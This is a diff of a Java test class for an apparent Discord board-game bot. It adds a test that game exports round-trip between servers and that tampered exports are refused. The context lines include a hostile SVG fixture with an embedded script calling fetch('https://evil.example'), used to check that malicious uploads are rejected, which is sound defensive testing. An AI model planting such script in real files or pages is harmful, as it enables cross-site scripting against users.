@@ -148,6 +148,25 @@ class BoardsOnDiscordTest {
     }
 
     @Test
+    void anExportCarriesItsBoardAndTheImportMakesItTheOtherServers() throws Exception {
+        upload(owner, channel, sixCrowns(), null);
+        answer(fake.slash(gm, channel, "game create", Map.of("variant", "six-crowns")));
+        InteractionResponse exported = answer(fake.slash(gm, channel, "game export", Map.of()));
+        byte[] json = exported.files().get(0).data();
+        assertTrue(new String(json, StandardCharsets.UTF_8).contains("\"board\""), "the export carries the board");
+        InteractionResponse imported = answer(fake.slash(rivalOwner, elsewhere, "game import", Map.of("export", fake.file("game-1.json", json))));
+        assertTrue(text(imported).contains("Imported as game #2"), text(imported));
+        assertEquals(service.game(1).variant(), service.game(2).variant(), "the same version");
+        InteractionResponse list = answer(fake.slash(rivalOwner, elsewhere, "variant list", Map.of()));
+        assertTrue(text(list).contains("six-crowns"), "now the rival server's too: " + text(list));
+        String tampered = new String(json, StandardCharsets.UTF_8).replace("\\\"victoryCentres\\\": 13", "\\\"victoryCentres\\\": 99");
+        assertNotEquals(new String(json, StandardCharsets.UTF_8), tampered);
+        InteractionResponse refused = answer(fake.slash(rivalOwner, rivals.textChannel("other"), "game import",
+                Map.of("export", fake.file("game-1.json", tampered.getBytes(StandardCharsets.UTF_8)))));
+        assertTrue(text(refused).contains("The board was refused; nothing was stored") && text(refused).contains("victoryCentres is 99"), text(refused));
+    }
+
+    @Test
     void aHostileUploadIsRefusedPrivatelyAndKeepsNothing() throws Exception {
         String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://evil.example')</script></svg>";
         InteractionResponse r = upload(owner, channel, sixCrowns(), svg);
